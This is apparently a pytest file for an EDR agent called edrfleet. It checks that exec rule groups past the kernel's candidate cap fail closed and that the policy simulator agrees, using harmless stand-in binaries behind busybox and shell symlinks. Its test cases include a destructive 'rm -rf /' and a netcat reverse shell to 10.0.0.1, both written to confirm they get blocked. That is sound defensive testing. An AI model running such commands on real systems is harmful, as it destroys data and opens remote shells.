"""The candidate cap in the kernel (issue 12): more rule groups than EDR_CAND_MAX on one exec
never fail open, and `policy test` (simulate) says what the kernel does.

The reproductions of the issue: an Alpine-style multi-call binary (`rm -> busybox`,
`nc -> busybox`) under the default policy, judged under both names; a shell linked under
another name (`sh -> dash`) whose two names and the wildcard groups together pass the cap.
Stand-ins only: copies of /bin/true and /bin/dash under /tmp, run in the test's cgroup.
"""

from __future__ import annotations

import json
import os
import shutil
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

import edrfleet.policy.limits as limits_mod
from edrfleet.policy import PolicyError, compile_policy, load_policy_text, simulate
from edrfleet.policy.bundle import dump_bundle
from edrfleet.policy.limits import EDR_CAND_MAX, MAX_CANDIDATES
from tests.kernel.conftest import harmless_copy
from tests.unit.templates.test_default_policy import render

KILLED = -9


@pytest.fixture
def bindir() -> Iterator[Path]:
    d = Path(f"/tmp/edrfc-{uuid.uuid4().hex[:8]}")
    d.mkdir()
    d.chmod(0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def link(bindir: Path, name: str, target: str) -> Path:
    path = bindir / name
    os.symlink(target, path)
    return path


def shell_pair_rules(per_name: int) -> list[dict]:
    """``per_name`` groups on each of fcsh and fcdash (distinct executable lists), logging,
    and one wildcard block rule on a canary that runs for every exec (its regex has no literal
    of 3 bytes, so it is not prefiltered: tests/kernel/test_prefilter.py has those)."""
    rules = []
    for name in ("fcsh", "fcdash"):
        for i in range(per_name):
            rules.append({"id": f"{name}-{i}", "description": "one group", "severity": "low",
                          "action": "log",
                          "match": {"executable": [name, *([f"{name}x{i}"] if i else [])],
                                    "cmdline": f"never{i}x"}})
    rules.append({"id": "w3", "description": "wildcard canary", "severity": "high",
                  "action": "block", "match": {"cmdline": "c.n.r.3.b"}})
    return rules


def policy_yaml(rules: list[dict], cgroup: str) -> str:
    return yaml.safe_dump({"version": 1, "scope": {"cgroups": [cgroup]}, "rules": rules},
                          sort_keys=False)


def test_the_compiler_refuses_two_names_of_one_file_past_the_cap(cgroup):
    per_name = MAX_CANDIDATES // 2 + 1
    text = policy_yaml(shell_pair_rules(per_name), cgroup.name)
    with pytest.raises(PolicyError) as info:
        compile_policy(load_policy_text(text, "pair.yaml"))
    msg = str(info.value)
    assert "'fcdash' and 'fcsh' as one file" in msg or "'fcsh' and 'fcdash' as one file" in msg
    assert f"would run {2 * per_name + 1} rule groups" in msg
    assert f"at most {MAX_CANDIDATES} with the whole argv scanned" in msg


def test_a_dropped_group_with_a_block_rule_blocks_counted_and_simulate_agrees(
        start_agent, cgroup, bindir, monkeypatch):
    # a bundle the compiler would refuse (built past its check), as a host's links can make:
    # the kernel must not fail open on it
    per_name = EDR_CAND_MAX // 2 + 1  # past what the kernel evaluates
    text = policy_yaml(shell_pair_rules(per_name), cgroup.name)
    monkeypatch.setattr(limits_mod, "MAX_CANDIDATES", 4 * MAX_CANDIDATES)
    bundle = compile_policy(load_policy_text(text, "pair.yaml"))
    monkeypatch.undo()
    harmless_copy(bindir / "fcdash", "/bin/dash")
    sh = link(bindir, "fcsh", "fcdash")
    agent = start_agent(dump_bundle(bundle))

    cases = [([str(sh), "-c", "echo canary3abc"], KILLED),  # the fail-open case
             ([str(sh), "-c", "echo hello"], KILLED),  # any exec dropping w3 fails closed
             ([str(bindir / "fcdash"), "-c", "echo hello"], 0),  # within the cap: runs
             ([str(bindir / "fcdash"), "-c", "echo canary3abc"], KILLED)]  # by rule w3
    for argv, rc in cases:
        sim = simulate(bundle, argv)
        assert (sim.action == "block") == (rc == KILLED), (argv, sim)
        assert cgroup.run(argv).returncode == rc, (argv, sim)
    assert simulate(bundle, cases[0][0]).reason == "dropped"
    assert simulate(bundle, cases[3][0]).rule == "w3"
    events = agent.wait_events(lambda e: e.get("edrfleet.reason") == "dropped", count=2)
    assert len(events) == 2, agent.events()
    assert all(e["rule.id"] == "edrfleet-unevaluated-groups" for e in events)
    deadline = time.monotonic() + 5  # status.json is written on the agent's next tick
    while agent.status().get("candidates_dropped", 0) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert agent.status()["candidates_dropped"] >= 2, agent.status()


def test_the_default_policy_judges_busybox_links_as_the_real_tools(
        start_agent, cgroup, bindir, canary_dir):
    text = render(edrfleet_scope_cgroups=[cgroup.name])
    bundle = compile_policy(load_policy_text(text, "default.yaml"))
    harmless_copy(bindir / "busybox")  # the stand-in: harmless whatever runs
    real = bindir / "real"
    real.mkdir()
    for name in ("rm", "nc"):
        link(bindir, name, "busybox")
        harmless_copy(real / name)
    start_agent(text)
    cases = [["rm", "-rf", str(canary_dir)], ["rm", "-rf", "/"], ["rm", "-f", "/tmp/x"],
             ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], ["nc", "-l", "4444"]]
    blocked = 0
    for name, *args in cases:
        as_link = simulate(bundle, [str(bindir / name), *args])
        as_tool = simulate(bundle, [str(real / name), *args])
        assert as_link.action == as_tool.action and as_link.rule == as_tool.rule, (name, args)
        assert as_link.reason is None
        rc = cgroup.run([str(bindir / name), *args]).returncode
        assert (rc == KILLED) == (as_link.action == "block"), (name, args, as_link)
        blocked += rc == KILLED
    assert blocked >= 2, "the destructive rm and the reverse shell must be among the blocked"
    assert json.dumps(bundle["executables"]["names"]["busybox"])  # busybox has its own rules


def test_a_prefilter_starved_by_the_host_links_fails_closed_and_simulate_agrees(
        start_agent, cgroup, bindir, monkeypatch):
    # 15 groups on one file through its two names, and the prefilter: within the kernel's
    # list, past the compiler's cap, so the tail calls leave the prefilter no argv window; it
    # cannot look for the prefiltered block rule's literal, and must not let the exec run
    rules = [r for r in shell_pair_rules(8) if r["id"] not in ("fcdash-7", "w3")]
    rules.append({"id": "p1", "description": "prefiltered canary", "severity": "high",
                  "action": "block", "match": {"cmdline": "canary3abc"}})
    monkeypatch.setattr(limits_mod, "MAX_CANDIDATES", 4 * MAX_CANDIDATES)
    bundle = compile_policy(load_policy_text(policy_yaml(rules, cgroup.name), "starved.yaml"))
    monkeypatch.undo()
    assert bundle["executables"]["prefilter"]["groups"]  # p1 is prefiltered
    harmless_copy(bindir / "fcdash", "/bin/dash")
    sh = link(bindir, "fcsh", "fcdash")
    agent = start_agent(dump_bundle(bundle))

    cases = [([str(sh), "-c", "echo hello"], KILLED, "unscanned"),  # starved: fails closed
             ([str(sh), "-c", "echo canary3abc"], KILLED, "unscanned"),
             ([str(bindir / "fcdash"), "-c", "echo hello"], 0, None),  # 8 groups: it reads
             ([str(bindir / "fcdash"), "-c", "echo canary3abc"], KILLED, None)]  # rule p1
    for argv, rc, reason in cases:
        sim = simulate(bundle, argv)
        assert (sim.action, sim.reason) == ("block" if rc else "allow", reason), (argv, sim)
        assert cgroup.run(argv).returncode == rc, (argv, sim)
    assert simulate(bundle, cases[3][0]).rule == "p1"
    events = agent.wait_events(lambda e: e.get("edrfleet.reason") == "unscanned", count=2)
    assert len(events) == 2, agent.events()
